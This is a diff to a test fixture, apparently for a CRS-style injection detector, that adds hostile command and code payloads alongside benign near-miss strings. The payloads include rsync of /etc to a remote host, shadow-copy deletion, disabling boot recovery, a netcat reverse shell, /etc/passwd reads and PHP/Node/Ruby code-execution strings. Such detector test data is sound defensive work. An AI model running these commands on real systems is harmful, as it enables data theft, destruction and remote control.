@@ -80,6 +80,11 @@ COMMANDS = {
     "noise": ["c$$at /et$$c/pas$$swd", "x;c$?at /et$_c/pas$!swd", "www.example.com;c$_at+/et$_c/pas$_swd",
               ";cat+/etc/passwd", "c4=\\ ;c3=t;c2=a;c1=c;$c1$c2$c3$c4/etc/passwd", ";at 2:00 \"echo test\"",
               "| at now < /tmp/job"],
+    # CRS's unix-shell and Windows command words that are not English, PowerShell's cmdlets
+    "crs words": [";rsync -a /etc/ x@10.0.0.9:", "|| bzip2 -d /tmp/x.bz2", "$(psql -c 'select 1')", ";iostat",
+                  "& robocopy C:\\Users \\\\x\\s /E", "| VSSADMIN delete shadows /all /quiet",
+                  "&& bcdedit /set {default} recoveryenabled No", "; Get-ChildItem -Path C:\\",
+                  "| Invoke-Command -ScriptBlock {x}", "\nSet-ExecutionPolicy -ExecutionPolicy Bypass"],
     "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
                     'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
@@ -107,6 +112,8 @@ COMMAND_NEAR_MISSES = [
     "~5 minutes", "~ 10", "${price}", "${user.name}", "rock'n'roll", "'cat' food", "don't 'go'",
     "ssh-agent is running", "reg add is how a script writes a key to the registry on each start",
     "net user growth was strong this year and more came later on",
+    "java is a language; rsync is a tool", "I use tmux and psql daily", "; Get well soon", "xcopy",
+    "the robocopy docs", "Get-ChildItem",
     "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
 ]
 CODE_PAYLOADS = {
@@ -121,9 +128,17 @@ CODE_PAYLOADS = {
             "pg_query(", "array_diff (", "<?=1?>", "<?xml :echo 1;", "$ {$a}", "$ {'fdf'}", "${'_V'.'AR'}",
             # php.ini directives set by a whole value; a session file named by its path; a [\php] tag
             "auto_prepend_file=/tmp/x.txt", "engine=true", "opcache.jit=1255", 'allow_url_include = "On"',
-            "/var/lib/php/sessions/sess_0123456789abcdefghij", "C:\\temp\\sess_abcdefghij0123456789", "x[\\php]"],
+            "/var/lib/php/sessions/sess_0123456789abcdefghij", "C:\\temp\\sess_abcdefghij0123456789", "x[\\php]",
+            # PHP's own functions called (CRS's 933150-933153 names less libc and other languages' names), PHP-only
+            # variables, PHP's data: wrapper
+            "htmlspecialchars($x)", "strtolower(abc)", "get_class_methods($o)", "gzdecode /**/(x)", "json_encode($a);",
+            "$GLOBALS", "$GLOBALS['x']", "$_COOKIE", "$HTTP_RAW_POST_DATA", "$http_response_header",
+            "data://text/plain;base64,PD9waHA=", "data:text/plain,<b>x</b>"],
     "node": ["console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");", "module.exports=x",
-             "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}'],
+             "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}',
+             # CRS 934100's indicators; Ruby's command runners
+             "this.constructor.constructor('return process')()", "process.readFileSync('/etc/passwd')",
+             "require.resolve('x')", "function(){return 1}", "Process.spawn('id')", "IO.popen('id')", "%x{id}"],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
             '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
     "template": ["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
@@ -151,6 +166,8 @@ CODE_NEAR_MISSES = [
     "<?xml version=\"1.0\" encoding=\"utf-8\"?>", "(note)(2)", "$a (dollar a)",
     "`require('myModule2')`.", "the process. Then", "{% if user.is_admin %}", "a process [1] ran",
     "${count?c}", "${name?lower_case}", "${abc}",
+    "htmlspecialchars() escapes markup", "Use json_encode() to", "strlen(s) in C", "sprintf(buf, x)",
+    "the $_SERVER array", "data:image/png;base64,iVBORw0KGgo=", "an IO popen call", "a process readme",
 ]
 
 
